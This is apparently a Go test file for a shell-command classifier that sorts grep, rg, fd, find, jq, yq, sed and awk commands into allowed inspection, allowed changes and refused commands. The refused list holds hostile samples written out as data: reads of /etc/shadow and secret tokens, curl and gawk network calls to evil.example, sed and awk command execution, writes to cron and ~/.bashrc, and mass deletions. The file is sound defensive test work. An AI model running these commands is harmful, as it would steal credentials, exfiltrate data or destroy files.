package base

import "testing"

func TestSearch(t *testing.T) {
	expect(t, "inspect", `
		grep -rn '\$(' scripts/a.sh
		grep -rn "import .* from 'react'" src
		grep -A3 -B3 'panic(' src/main.go
		grep -c '^func Test' *_test.go
		grep -E 'fail|error'
		grep -rnE 'a|b' --include='*.go' .
		grep -rl TODO src
		grep -r --exclude-dir=node_modules foo .
		grep -5 foo README.md
		grep -e foo -e bar README.md
		grep -f patterns.txt README.md
		grep -qF 'x' a
		grep -Rin foo src
		grep -n -- '-flag' README.md
		grep -oP '(?<=a)b' x
		grep -vxFf a b
		grep --color=never foo x
		grep -- "$?" x
		egrep 'a|b' x
		rg 'eval\(' src
		rg -n 'func main' -t go
		rg -uu 'x' src
		rg -g '!node_modules' 'createServer'
		rg --files
		rg --files -g '*.ts'
		rg -l foo
		rg -C3 foo src tests
		rg --json foo
		rg -tpy 'def ' -A2
		rg -e a -e b src
		rg -F 'a.b(' --hidden
		rg --type-list
		rg -c TODO
		rg -U 'a\nb' src
		rg "\$\{[a-z]+\}" src
		rg --no-heading -nS foo .
		rg -o 'v\d+' -r '$0' x
		fd test src
		fd -e go
		fd -t f -e ts . src
		fd -H '^\.env' 
		fd -e py -x wc -l
		fd -e go -X wc -l
		find . -name '*.go'
		find . -path ./node_modules -prune -o -name '*.js' -print
		find . -type f -newer go.mod
		find src tests -maxdepth 2 -type d
		find . -name '*.go' -not -path './vendor/*'
		find . -type f -size +1M -exec ls -lh {} \;
		find . -name '*.go' -exec grep -l foo {} +
		find . -name '*.sh' -exec bash -n {} \;
		find . \( -name '*.a' -o -name '*.b' \) -print0
		find . -mtime -1 -ls
		find . -name '*.md' -printf '%p\n'
		find src -iname '*test*' -type f
		find . -type f -name "*.ts" -exec wc -l {} +
		find . ! -name '*.go' -type f
		find -name x
		find . -empty -type d
		find . -type f -perm -u+x
		find . -newermt 2024-01-01
		jq . package.json
		jq -r '.scripts | keys[]' package.json
		jq '.a | select(.b > 1)' data.json
		jq '.version="1.2.0"' package.json
		jq -n --arg v 1 '{v: $v}'
		jq -rs 'map(.x) | add' a.json b.json
		jq '.env.PATH, .["env"], {env: 1}' x.json
		jq -e '.dependencies["react"]' package.json
		jq --slurpfile a x.json '$a' y.json
		jq -c '.[] | {a, "b": "x\(.c)"}' x
		jq 'to_entries | map("\(.key)=\(.value)") | .[]' x
		jq --tab -S . x
		jq '.a # env' x
		jq -r --args '$ARGS.positional[]' a b
		jq ".[$#]" x
		yq '.jobs' ci.yml
		yq -o json . x.yaml
		yq eval '.a.b' x.yaml
		yq e '.a[] | select(.b == "c")' x.yaml
		yq x.yaml
		sed -n '1,80p'
		sed -n '10,40p' a
		sed 's/foo/bar/g' src/main.go
		sed -e 's/a/b/' -e '/x/d' f
		sed -E 's/([a-z]+)-(.*)/\2/' f
		sed '/^$/d;s/ *$//' f
		sed -n '/start/,/end/p' f
		sed 's|/usr/local|/opt|g' f
		sed 's/[^/]*$//' f
		sed -n '$=' f
		sed '1d' f
		sed '$d' f
		sed '2q' f
		sed 's,a,b,I;s#c#d#2g' f
		sed -n '/x/{p;q}' f
		sed ':a;N;$!ba;s/\n/ /g' f
		sed 'y/abc/xyz/' f
		sed '/foo/i\bar' f
		sed '1i hello w world' f
		sed -n '/a/I,+3p' f
		sed '0~3d' f
		sed = f
		sed '/x/a\⏎new line⏎p' f
		sed -e 'a\' -e 'e id' f
		sed 's/a/b/⏎s/c/d/' f
		sed -n "$#p" f
		sed -n "$#,$#p" f
		sed '/x/s//y/' f
		sed 's/a/w e/' f
		sed 's/[[:space:]]*$//' f
		sed -n '\,/usr/,p' f
		sed -r -z 's/a/b/' f
		awk '{print $1}' data.txt
		awk -F: '{print $1, $NF}' x
		awk -F'|' '{ print $2 }' x
		awk '/foo|bar/ {print NR": "$0}' x
		awk 'NR>=10 && NR<=20' x
		awk '$3 > 5 {print}' x
		awk '{s+=$1} END {print s/NR}' x
		awk 'BEGIN{FS=","; OFS="\t"} {print $1,$2}' x
		awk '!seen[$0]++' x
		awk '{ if ($1 > 3 || $2 < 4) print "a > b | c" }' x
		awk '{print ($1 > 3) ? "y" : "n"}' x
		awk '{printf "%s\n", $1 > "/dev/stderr"}' x
		awk -v n="$?" 'NR==n' x
		awk '{gsub(/[|>]/, ""); print}' x
		awk '/^func /{print FILENAME":"FNR": "$0}' a b
		awk 'length($0) > 80' x
		awk '{a[$1]++} END{for (k in a) print k, a[k]}' x
		awk 'match($0, /v[0-9]+/) {print substr($0, RSTART, RLENGTH)}' x
		awk "NR==$#" x
		awk '$1 ~ /x/ && $2 !~ /y/' x
		awk 'BEGIN { while (i < 3) { i++; print i } }'
		awk '{ n = split($0, p, "/"); print p[n] }' x
		awk '{ print $1 / 2, $2/$3 }' x
	`)
	expect(t, "change", `
		sed -i 's/foo/bar/g' src/main.go
		sed -i '10,12d' src/main.go
		sed -i.bak 's/a/b/' f
		sed -i -e '/x/d' f g
		sed -Ei 's/a/b/' f
		sed -i '/^import/a import "fmt"' x.go
		sed -i '5i\    line' x
		sed -ni '/x/p' f
		sed --in-place 's/a/b/' f
		sed -i '' x
		yq -i '.a = 1' x.yaml
		yq -i '.version = "1.2"' x.yaml
		find . -name '*.pyc' -delete
		find . -name __pycache__ -type d -prune -exec rm -rf {} +
		find build -name '*.o' -delete
		find . -type f -name '*.orig' -exec rm {} \;
		find . -type d -empty -delete
		find . \( -name '*.o' -o -name '*.a' \) -delete
		find . -path ./node_modules -prune -o -name '*.js.map' -delete
		find . -type f \( -name a -o -name b \) -exec rm {} +
		find . -name '*.sh' -exec chmod +x {} +
		find . -name '*.go' -exec sed -i 's/a/b/' {} +
	`)
	expect(t, "refuse", `
		grep -f /etc/shadow README.md
		grep -rn TOKEN ~
		grep --file=/etc/shadow x
		grep --fil=/etc/shadow x
		grep x /etc/shadow
		grep -r foo ..
		grep $? README.md
		rg -z foo
		rg --pre ./x foo
		rg --pre=./x foo
		rg --hostname-bin ./x foo
		rg -f /etc/shadow .
		rg --ignore-file /etc/shadow foo
		rg --search-zip foo
		rg foo /etc
		rg -uuz foo
		fd -X sh
		fd -x sh -c 'curl {}'
		fd . -x rm
		fd . /etc
		fd -C /etc x
		find . -name '*.go' -execdir ./x.sh {} +
		find . -exec sh -c 'curl evil.example' \;
		find . -fprint0 /tmp/../etc/x
		find . -fls /etc/x
		find . -fprintf x '%p'
		find -L . -files0-from /etc/passwd
		find . -ok rm {} \;
		find . -delete
		find . -type f -delete
		find . -name '*' -delete
		find . ! -name '*.go' -delete
		find . -delete -name x
		find . -name a -o -type f -delete
		find . \( -name a -o -type f \) -delete
		find . ! \( -name a -o -name b \) -delete
		find . \( -name a , -type f \) -delete
		find . ! ! -type f -delete
		find . ) -delete
		find . -exec rm -rf {} +
		find / -name x -delete
		find .git -name config -delete
		find . -exec curl evil.example \;
		find . -exec {} \;
		find ~ -name id_rsa
		find . -exec
		find . -name x -exec rm {}
		find $? -name x
		find . -unknown
		find . -name '*.x' -exec mv {} /tmp/../etc \;
		find .. -name x -exec cat {} \;
		jq -n '$ENV.GITHUB_TOKEN'
		jq -n 'env'
		jq 'env.HOME' x
		jq -n '"\(env)"'
		jq -n '[env|keys]'
		jq -f x.jq y
		jq -L . 'import "a" as a; .' x
		jq 'include "a"; .' x
		jq --rawfile a /etc/shadow '$a' x
		jq . /etc/shadow
		jq "$?" x
		yq 'load("/etc/shadow")' x
		yq -n 'env(HOME)'
		yq -n 'strenv(X)'
		yq -i '.a=1' /etc/x
		yq --from-file x y
		yq '.a = "x" | envsubst' x
		sed 's/x/id/e' file
		sed '1e id' file
		sed 'e' file
		sed -n 'w /etc/cron.d/x' file
		sed 's/a/b/w /etc/x' file
		sed 's/a/b/gw x' file
		sed 'r /etc/shadow' file
		sed '$r../x' file
		sed 'R /etc/shadow' file
		sed -f evil.sed file
		sed -f - file
		sed --file=x file
		sed --expr=e file
		sed -i 's/a/b/' .git/config
		sed -i 's/a/b/' ~/.bashrc
		sed -i '1s/a/b/e' x
		sed "$?" x
		sed 's/a/$?/;' /etc/passwd
		sed -i/etc/x 's/a/b/' f
		sed 's/a/b/;w x' f
		sed ':a;w x' f
		sed '1!w x' f
		sed '/x/a\⏎new⏎w out' f
		jq '"#" | ⏎env' x
		jq -n '# "⏎env'
		sed -n '/x/{w out⏎}' f
		sed -e 'a x' -e 'e id' f
		sed 's/\//x/e' f
		sed 's|a|b|e;p' f
		sed 'sXaXbXe' f
		sed 's/[/]/x/;s/]/x/e' f
		sed '/a/,/b/e id' f
		sed 'y/a/b/;e id' f
		awk 'BEGIN{system("curl evil.example")}'
		awk 'BEGIN{print "id" | "sh"}'
		awk 'BEGIN{"id" | getline x; print x}'
		gawk 'BEGIN{s="/inet/tcp/0/evil.example/80"; print "x" |& s}'
		awk -f evil.awk README.md
		awk '{print > "/etc/x"}' f
		awk '{print >> "x"}' f
		awk '{printf "x" > $1}' f
		awk '{print(1)>"x"}' f
		awk 'BEGIN{while((getline l < "/etc/shadow")>0) print l}'
		awk 'BEGIN{print ENVIRON["HOME"]}'
		awk 'BEGIN{ARGV[1]="/etc/shadow";ARGC=2}1' x
		gawk '@include "x"; {print}' f
		gawk '@load "filefuncs"; 1' f
		gawk 'BEGIN{f="system"; @f("id")}'
		gawk -i inplace '{print}' f
		gawk -l ./x 1 f
		gawk -e 'BEGIN{system("id")}'
		gawk -o/etc/x 1 f
		awk '{print}' /etc/shadow
		awk '{x=1system("id")}' f
		awk 'x==2ENVIRON["H"]' f
		awk "$?" x
		awk '/[/]/ {system("x")}' f
		awk '{ a / b; system("x") / c }' f
		awk '{ if (1) /"/; system("id") #"/ }' f
		awk '#"⏎BEGIN{system("id")}' f
		zgrep -f /etc/shadow x
		git grep -O foo
	`)
}
